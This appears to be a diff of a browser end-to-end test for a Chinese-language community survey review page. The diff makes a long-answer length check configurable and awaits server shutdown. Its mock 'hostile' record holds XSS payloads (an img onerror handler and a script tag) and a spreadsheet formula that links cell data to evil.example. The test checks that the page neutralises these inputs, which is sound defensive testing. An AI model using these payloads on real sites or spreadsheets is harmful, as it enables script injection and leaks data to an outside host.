@@ -17,7 +17,7 @@ const mockWorld = {
   settle: { find: '王秀英', answers: ['王秀英', '138 0000 0000'], conflicts: [{ label: '常住人口', sides: ['4', '2'], base: '3', choose: '2' }, { label: '您认为社区最需要解决的方面（限选 3 项）', sides: ['社会设施维护、社会环境卫生治理', '社会设施维护、停车与出行'], choose: 'both', shows: '停车与出行' }], photos: 3 },
   giveBack: { find: '李国强', label: '具体意见和建议', photoAway: true },
   approve: { find: '马先生' },
-  hostile: { find: 'onerror', texts: ['<img src=x onerror="window.__hacked=1">', '=HYPERLINK("http://evil.example/"&A1,"点我")', '<script>window.__hacked=1</script>'], long: true, bidi: true },
+  hostile: { find: 'onerror', texts: ['<img src=x onerror="window.__hacked=1">', '=HYPERLINK("http://evil.example/"&A1,"点我")', '<script>window.__hacked=1</script>'], long: 100_000, bidi: true },
   mock: true,
 }
 
@@ -168,7 +168,7 @@ async function supervise(base, world, lang, width, height) {
     assert.equal(await page.locator('.middle img, .middle script, .left img').count(), 0)
     if (hostile.long) {
       await page.locator('.more').first().click()
-      assert.ok((await page.locator('.answerText.whole').innerText()).length >= 100_000)
+      assert.ok((await page.locator('.answerText.whole').innerText()).length >= hostile.long)
       await page.locator('.more').first().click()
     }
     await noSidewaysScroll(page, 'the hostile record')
@@ -326,7 +326,7 @@ try {
         await changedSince(running.base, { ...mockWorld, behind: { find: '何先生', change } })
         await zoomed(running.base, mockWorld)
       }
-      running.stop()
+      await running.stop()
     }
   }
   console.log(`PASS ${passed}`)
@@ -335,5 +335,5 @@ try {
   process.exitCode = 1
 } finally {
   await browser.close()
-  running?.stop()
+  await running?.stop()
 }
